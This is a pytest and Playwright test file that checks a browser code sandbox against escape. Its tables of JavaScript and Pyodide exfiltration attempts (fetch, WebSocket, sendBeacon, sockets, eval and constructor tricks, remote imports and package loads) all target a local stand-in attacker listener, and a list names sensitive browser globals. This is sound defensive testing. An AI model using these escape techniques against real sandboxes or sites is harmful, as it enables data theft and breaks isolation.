"""The sandbox's walls: nothing that a program tries reaches the page, its origin or the network.

Every way out is tried three times in JavaScript: outside, where it must arrive, or the test proves
nothing; in a bare worker of the sandbox, where only the frame's origin and policy stop it; and as a
person's program, behind both walls.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from tests.browser import sandbox_site
from tests.browser.sandbox_site import Attacker, Site

pytestmark = pytest.mark.timeout(180)

# Bodies of async functions; URL is the attacker's, over http. Each ends when it has failed or not.
WAYS_OUT = {
    "fetch": "await fetch(URL)",
    "blind fetch": "await fetch(URL, {mode: 'no-cors', method: 'POST', body: 'x'})",
    "kept-alive fetch": "await fetch(URL, {keepalive: true})",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', URL, false); x.send()",
    "WebSocket": """const s = new WebSocket(URL.replace('http', 'ws'));
      await new Promise(r => { s.onerror = s.onclose = s.onopen = r })""",
    "EventSource": """const s = new EventSource(URL);
      await new Promise(r => { s.onerror = s.onopen = r }); s.close()""",
    "WebTransport": """const t = new WebTransport(URL.replace('http', 'https'));
      await Promise.allSettled([t.ready, t.closed])""",
    "importScripts": "importScripts(URL)",
    "import()": "await import(URL)",
    "FontFace": "await new FontFace('f', `url(${URL})`).load()",
    "Cache": "await (await caches.open('c')).add(URL)",
    "worker inside": """const w = new Worker(self.URL.createObjectURL(new Blob([
        `fetch('${URL}').catch(() => 0).then(() => {
          try { importScripts('${URL}') } catch {} postMessage(0) })`])));
      await new Promise((r, f) => { w.onmessage = r; w.onerror = f })""",
    "shared worker": """const w = new SharedWorker(self.URL.createObjectURL(new Blob([
        `onconnect = e => fetch('${URL}').catch(() => 0).then(() => e.ports[0].postMessage(0))`])));
      await new Promise((r, f) => { w.port.onmessage = r; w.onerror = f })""",
    "sendBeacon": "navigator.sendBeacon(URL, 'x')",
}
# These are not there in a worker anyway, so the page is where they must be seen to work.
ONLY_IN_PAGES = {"sendBeacon", "shared worker"}

TRY = """
const tryIt = async URL => {
  try { %s; return 'got out'; } catch (error) { return `stopped: ${error}`; }
};
"""

NOT_WORTH_HAVING = [
    "document", "window", "parent", "top", "frames", "opener", "localStorage", "sessionStorage",
    "indexedDB", "caches", "cookieStore", "XMLHttpRequest", "WebSocket", "EventSource",
    "WebTransport", "importScripts", "Worker", "SharedWorker", "BroadcastChannel", "FontFace",
    "postMessage", "RTCPeerConnection",
]  # fmt: skip


@pytest.fixture(scope="module")
def site(repository: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    directory = tmp_path_factory.mktemp("walls")
    sandbox_site.build(repository, directory)
    with sandbox_site.serving(directory) as running:
        yield running


@pytest.fixture(scope="module")
def page(browser: Browser, site: Site) -> Iterator[Page]:
    context = browser.new_context()
    page = context.new_page()
    page.set_default_timeout(120_000)
    page.goto(site.url)
    page.evaluate("document.cookie = 'secret=1'")
    yield page
    context.close()


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    with sandbox_site.attacking() as listening:
        yield listening


def run(page: Page, language: str, code: str) -> dict[str, Any]:
    script = "([language, code]) => arena.run(language, code, 30000)"
    result: dict[str, Any] = page.evaluate(script, [language, code])
    return result


@pytest.mark.parametrize("way", WAYS_OUT)
def test_outside_the_attacker_hears_of_it(page: Page, attacker: Attacker, way: str) -> None:
    tried = TRY % WAYS_OUT[way]
    if way in ONLY_IN_PAGES:
        page.evaluate(f"url => {{ {tried} return tryIt(url); }}", attacker.url)
    else:
        worker = f"{tried} tryIt('{attacker.url}').then(postMessage)"
        script = """code => new Promise(resolve => {
          new Worker(URL.createObjectURL(new Blob([code]))).onmessage = e => resolve(e.data);
        })"""
        page.evaluate(script, worker)
    assert hears(page, attacker)


def hears(page: Page, attacker: Attacker) -> bool:
    """Whether something came, other than this question's own request, which comes last."""
    # By another name, so that it cannot travel on a connection that a probe has opened.
    page.evaluate("port => fetch(`http://localhost:${port}/last`)", attacker.port)
    assert attacker.heard[-1] == "GET /last"
    return attacker.heard != ["tcp", "GET /last"]


@pytest.mark.parametrize("way", WAYS_OUT)
def test_the_frame_alone_stops_it(page: Page, attacker: Attacker, way: str) -> None:
    code = TRY % WAYS_OUT[way] + f"report(await tryIt('{attacker.url}'))"
    tried = page.evaluate("code => arena.runBare(code)", code)
    assert tried.startswith(("stopped", "got out"))
    assert not hears(page, attacker)


@pytest.mark.parametrize("way", WAYS_OUT)
def test_a_javascript_program_cannot(page: Page, attacker: Attacker, way: str) -> None:
    code = TRY % WAYS_OUT[way] + f"console.log(await tryIt('{attacker.url}'))"
    result = run(page, "javascript", code)
    assert result["stdout"].startswith("stopped: "), result
    assert not hears(page, attacker)


def test_a_javascript_program_cannot_import_statically(page: Page, attacker: Attacker) -> None:
    result = run(page, "javascript", f"import '{attacker.url}'")
    assert result["status"] == "error"
    assert not hears(page, attacker)


PYTHON_WAYS_OUT = {
    "js.fetch": "import js\nawait js.fetch(URL)",
    "pyfetch": "from pyodide.http import pyfetch\nawait pyfetch(URL)",
    "open_url": "from pyodide.http import open_url\nopen_url(URL)",
    "pyxhr": "from pyodide.http import pyxhr\npyxhr.get(URL)",
    "urllib": "from urllib.request import urlopen\nurlopen(URL, timeout=2)",
    "socket": "import socket\nsocket.create_connection(('127.0.0.1', PORT), timeout=2).send(b'x')",
    "asyncio": "import asyncio\nawait asyncio.open_connection('127.0.0.1', PORT)",
    "XMLHttpRequest": "import js\nx = js.XMLHttpRequest.new()\nx.open('GET', URL, False)\nx.send()",
    "WebSocket": "import js\njs.WebSocket.new(URL.replace('http', 'ws'))",
    "importScripts": "import js\njs.importScripts(URL)",
    "Worker": "import js\njs.Worker.new(URL)",
    "eval": "import js\nawait js.eval(f'import(\"{URL}\")')",
    "run_js": "from pyodide.code import run_js\nawait run_js(f'import(\"{URL}\")')",
    "Function": "import js\nawait js.Function.new(f'return import(\"{URL}\")')()",
    "constructor": "import js\nawait js.Object.constructor(f'return fetch(\"{URL}\")')()",
    "timer text": "import js\njs.setTimeout(f'fetch(\"{URL}\")', 0)\n"
    "from asyncio import sleep\nawait sleep(0.1)\nraise OSError('nothing happened')",
    "a package": "import pyodide_js\nawait pyodide_js.loadPackage(URL + 'x-1.0-py3-none-any.whl')\n"
    "import x",
}


@pytest.mark.parametrize("way", PYTHON_WAYS_OUT)
def test_a_python_program_cannot(page: Page, attacker: Attacker, way: str) -> None:
    code = f"URL, PORT = '{attacker.url}', {attacker.port}\n{PYTHON_WAYS_OUT[way]}"
    result = run(page, "python", code)
    assert result["status"] == "error", result
    assert not hears(page, attacker)


def test_javascript_finds_nothing_worth_having(page: Page) -> None:
    names = ", ".join(f"typeof {name}" for name in NOT_WORTH_HAVING)
    result = run(page, "javascript", f"console.log(new Set([{names}]), self.origin)")
    assert result["stdout"] == "Set(1) { 'undefined' } null\n"


def test_python_finds_nothing_worth_having(page: Page) -> None:
    code = (
        f"import js\nprint([name for name in {NOT_WORTH_HAVING} if hasattr(js, name)], js.origin)"
    )
    assert run(page, "python", code)["stdout"] == "[] null\n"


def test_a_bare_worker_has_no_storage_and_no_cookies(page: Page) -> None:
    result = page.evaluate(
        "code => arena.runBare(code)",
        """
        const tries = {
          indexedDB: () => new Promise((resolve, reject) => {
            const request = indexedDB.open('x');
            request.onsuccess = resolve;
            request.onerror = () => reject(request.error);
          }),
          caches: () => caches.open('x'),
          files: () => navigator.storage.getDirectory(),
          cookies: async () => { if (self.cookieStore) await cookieStore.getAll(); else throw 0; }
        };
        const open = [];
        for (const [name, attempt] of Object.entries(tries)) {
          try { await attempt(); open.push(name); } catch {}
        }
        report(`open: ${open}`);
        """,
    )
    assert result == "open: "


def test_the_frame_serves_only_in_an_opaque_origin(page: Page) -> None:
    """A frame that shares the page's origin keeps silent, where the sandboxed one answers."""
    answers = page.evaluate("""async () => {
      const { directory } = await (await fetch('runtime/version.json')).json();
      const ask = sandbox => new Promise(resolve => {
        const frame = document.createElement('iframe');
        if (sandbox) frame.setAttribute('sandbox', 'allow-scripts');
        const { port1, port2 } = new MessageChannel();
        const heard = [];
        port1.onmessage = e => { heard.push(e.data.type); if (sandbox) resolve(heard); };
        frame.onload = () => {
          frame.contentWindow.postMessage('arena-sandbox', '*', [port2]);
          if (!sandbox) resolve(heard);
        };
        frame.src = `runtime/${directory}/sandbox.html`;
        document.body.append(frame);
      });
      const open = await ask(false);
      return [open, await ask(true), open];
    }""")
    assert answers == [[], ["hello"], []]


def test_the_frame_keeps_silent_as_a_page_of_its_own(browser: Browser, site: Site) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.goto(site.url)
    directory = page.evaluate("fetch('runtime/version.json').then(r => r.json())")["directory"]
    page.goto(f"{site.url}runtime/{directory}/sandbox.html")
    heard = page.evaluate("""() => new Promise(resolve => {
      const { port1, port2 } = new MessageChannel();
      const heard = [];
      port1.onmessage = e => heard.push(e.data.type);
      window.postMessage('arena-sandbox', '*', [port2]);
      // Delivered after the handshake, whether or not that was answered.
      addEventListener('message', e => { if (e.data === 'end') resolve(heard); });
      window.postMessage('end', '*');
    })""")
    assert heard == []
    context.close()


def test_the_page_carries_its_policy(site: Site, page: Page) -> None:
    version = page.evaluate("fetch('runtime/version.json').then(r => r.json())")
    html = page.evaluate(
        "path => fetch(path).then(r => r.text())", f"runtime/{version['directory']}/sandbox.html"
    )
    found = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', html)
    assert found is not None
    assert found[1] == version["csp"]
    assert "unsafe-inline" not in found[1]
    assert "'unsafe-eval'" not in found[1]
